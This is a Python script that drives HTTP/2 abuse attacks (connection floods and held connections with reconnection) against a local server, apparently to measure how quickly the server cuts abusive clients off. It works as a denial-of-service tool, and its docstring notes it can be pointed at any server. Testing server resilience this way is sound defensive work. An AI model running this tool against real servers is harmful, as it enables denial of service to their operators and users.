#!/usr/bin/env python3
"""One abuse of HTTP/2 against 127.0.0.1 at full speed, from core 1, until a time is over.

The first connection begins with half a second of small pieces and reads every frame, so that it can tell how many frames
it takes until the server has had enough; then, as all further ones, it sends 64 KB at a time and looks for GOAWAY only.
Whoever is cut off connects again. Prints one JSON object. `h2_abuse.py` runs it; alone it is of use against any server.

    python3 h2_abuser.py NAME PORT SECONDS [--tls]
"""
import argparse, collections, dataclasses, fcntl, json, os, pathlib, select, struct, termios, time

from h2_attacks import ATTACKS
from h2_frames import ACK, GOAWAY, GOAWAY_HEADER, PREFACE, RST_STREAM, SETTINGS, Frames, Wire, frame, goaway_code, goaway_in

CAREFUL_BYTES, FAST_BYTES = 1_024, 65_536
# Behind the honest and the origin, before other work on the machine.
ABUSER_NICE = -8
SILENCE_S, ALIVE_S, CAREFUL_S, LINGER_S = 2.0, 0.1, 0.5, 0.3


@dataclasses.dataclass
class Outcome:
    """`end`: how the connection ended, None where the server let it be. `frames`: of the abuse, taken by the server's
    kernel when the end was seen: an upper bound. `closed`: the connection was ended, not only told off."""
    end: str | None = None
    frames: int = 0
    milliseconds: float = 0.0
    closed: bool = False
    stalled: bool = False
    resets: int = 0


class Connection:
    """One connection of the abuser, behind the exchange of SETTINGS."""

    def __init__(self, attack, port, tls):
        self.attack, self.view = attack, memoryview(attack.body)
        self.wire = Wire(port, tls, receive_buffer=None if attack.reads else 8_192)
        self.frames, self.tail = Frames(), b""
        self.started, self.outcome, self.sent = time.monotonic(), Outcome(), 0
        # Nothing may come between a head and its continuation: the SETTINGS are settled first.
        settings_bytes = 9 + int.from_bytes(attack.opening[:3], "big")
        self.wire.send_all(PREFACE + attack.opening[:settings_bytes], SILENCE_S)
        if self.wait(SILENCE_S):
            self.read(True)
        self.wire.send_all(frame(SETTINGS, ACK, 0) + attack.opening[settings_bytes:], SILENCE_S)

    def wait(self, seconds, write=False):
        return any(select.select([self.wire], [self.wire] if write else [], [], seconds)[:2])

    def unsent(self):
        return struct.unpack("i", fcntl.ioctl(self.wire.fileno(), termios.TIOCOUTQ, bytes(4)))[0]

    def over(self, how, closed):
        """Notes the end, the first word of the server kept."""
        taken, size = max(0, self.sent - (0 if closed else self.unsent())), max(1, len(self.attack.body))
        if self.outcome.end is None:
            self.outcome.end, self.outcome.frames = how, round(taken * self.attack.frames / size)
            self.outcome.milliseconds = 1_000 * (time.monotonic() - self.started)
        self.outcome.closed |= closed

    def read(self, careful):
        """False when the peer has closed. `careful`: every frame is looked at."""
        got = self.wire.receive()
        if got is None:
            self.over(f"GOAWAY {goaway_in(self.tail)}" if goaway_in(self.tail) else "closed", True)
            return False
        if careful:
            for kind, _, _, payload in self.frames.feed(got) if self.frames else ():
                if kind == GOAWAY:
                    self.over(f"GOAWAY {goaway_code(payload)}", False)
                self.outcome.resets += kind == RST_STREAM
        self.tail = (self.tail + got)[-4_096:]
        if not careful and GOAWAY_HEADER.search(got) and goaway_in(self.tail):
            self.over(f"GOAWAY {goaway_in(self.tail)}", False)
        return True

    def read_rest(self):
        """What the server said before it closed; what it goes on to say is not waited for."""
        until = time.monotonic() + SILENCE_S
        while time.monotonic() < until and self.wait(0.2) and self.read(True):
            pass

    def push(self, offset, size):
        """Sends from the body; returns how many bytes were taken, None when the connection is gone."""
        try:
            taken = self.wire.send(self.view[offset:offset + size])
            self.sent += taken
            return taken
        except OSError:
            self.read_rest()
            self.over("closed", True)
            return None

    def flood(self, until, careful):
        """Sends until it is cut off, the body is through, or the time is over."""
        offset, silent_since = 0, None
        while (now := time.monotonic()) < until and not self.outcome.closed:
            if careful and now > self.started + CAREFUL_S:
                careful, self.frames = False, None
            size = CAREFUL_BYTES if careful else FAST_BYTES
            taken = self.push(offset, size)
            if taken is None or (self.attack.reads and not self.read(careful)):
                break
            if self.outcome.end is not None and now > self.started + self.outcome.milliseconds / 1_000 + SILENCE_S:
                break
            offset += taken
            if offset >= len(self.view):
                if not self.attack.endless:
                    break
                offset = 0
            silent_since = None if taken else silent_since or now
            if not taken:
                self.outcome.stalled |= now - silent_since > SILENCE_S
                self.wait(0.01, write=True)
        if not self.outcome.closed and self.outcome.end is None and self.attack.reads:
            self.linger(min(until, time.monotonic() + LINGER_S), careful)
        self.wire.close()
        return self.finished()

    def linger(self, until, careful):
        """The body is through: the server takes the rest of it, and its verdict may be on its way."""
        while time.monotonic() < until and self.outcome.end is None and (careful or self.unsent()):
            if self.wait(0.01) and not self.read(careful):
                break

    def finished(self):
        if self.outcome.end is None:
            self.outcome.frames = round(self.sent * self.attack.frames / max(1, len(self.attack.body)))
            self.outcome.milliseconds = 1_000 * (time.monotonic() - self.started)
        return self.outcome


def sum_up(outcomes, first, sent, seconds, attack):
    ends = collections.Counter(outcome.end or ("stalled" if outcome.stalled else "not cut off") for outcome in outcomes)
    return dict(first=dataclasses.asdict(first), ends=dict(ends), connections=len(outcomes), bytes=sent,
                frames_per_second=round(sent * attack.frames / max(1, len(attack.body)) / seconds))


def flood(attack, port, tls, seconds):
    outcomes, sent, refused, start = [], 0, 0, time.monotonic()
    while time.monotonic() < start + seconds:
        try:
            connection = Connection(attack, port, tls)
        except OSError:
            refused += 1
            time.sleep(0.005)
            continue
        outcomes.append(connection.flood(start + seconds, careful=not outcomes))
        sent += connection.sent
    first = outcomes[0] if outcomes else Outcome()
    return dict(sum_up(outcomes, first, sent, seconds, attack), refused=refused)


def visit(connection):
    """One look at a held connection. False when it is over."""
    if len(connection.attack.body) > connection.sent:
        if connection.push(connection.sent, FAST_BYTES) is None:
            return False
    elif connection.attack.alive:
        try:
            connection.wire.send(connection.attack.alive)
        except OSError:
            connection.read_rest()
            connection.over("closed", True)
            return False
    if connection.attack.reads and not connection.read(True):
        return False
    if connection.attack.held and connection.outcome.resets >= connection.attack.frames > 0:
        connection.over("streams reset", False)
    return True


def hold(attack, port, tls, seconds):
    """Keeps its connections open as long as it is let; those that are ended are opened anew."""
    first, again, open_ones, refused, start = [], [], [], 0, time.monotonic()
    while time.monotonic() < start + seconds:
        while len(open_ones) < attack.connections:
            try:
                connection = Connection(attack, port, tls)
            except OSError:
                refused += 1
                break
            (first if len(first) < attack.connections else again).append(connection)
            open_ones.append(connection)
        kept = []
        for connection in open_ones:
            if visit(connection):
                kept.append(connection)
            else:
                connection.wire.close()
        open_ones = kept
        time.sleep(ALIVE_S)
    for connection in open_ones:
        if not attack.reads:
            # Who reads nothing does not see the end: it lies behind what was not read. The time is that of the look.
            connection.read_rest()
        connection.wire.close()
    sent = sum(connection.sent for connection in first + again)
    outcomes = [connection.finished() for connection in first + again]
    of_first = outcomes[:len(first)]
    # The slowest to be cut off speaks for all of the first round.
    worst = max(of_first, key=lambda outcome: (outcome.end is None, outcome.milliseconds), default=Outcome())
    return dict(sum_up(outcomes, worst, sent, seconds, attack), refused=refused)


def main():
    options = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    options.add_argument("name", choices=ATTACKS)
    options.add_argument("port", type=int)
    options.add_argument("seconds", type=float)
    options.add_argument("--tls", action="store_true")
    options = options.parse_args()
    os.sched_setaffinity(0, {1})
    try:
        os.nice(ABUSER_NICE)
        pathlib.Path("/proc/self/autogroup").write_text(str(ABUSER_NICE))
    except OSError:
        pass
    attack = ATTACKS[options.name](options.tls)
    run = hold if attack.held else flood
    # The bytes are computed: whoever waits for that may go on.
    print("ready", flush=True)
    input()
    print(json.dumps(run(attack, options.port, options.tls, options.seconds)), flush=True)


if __name__ == "__main__":
    main()
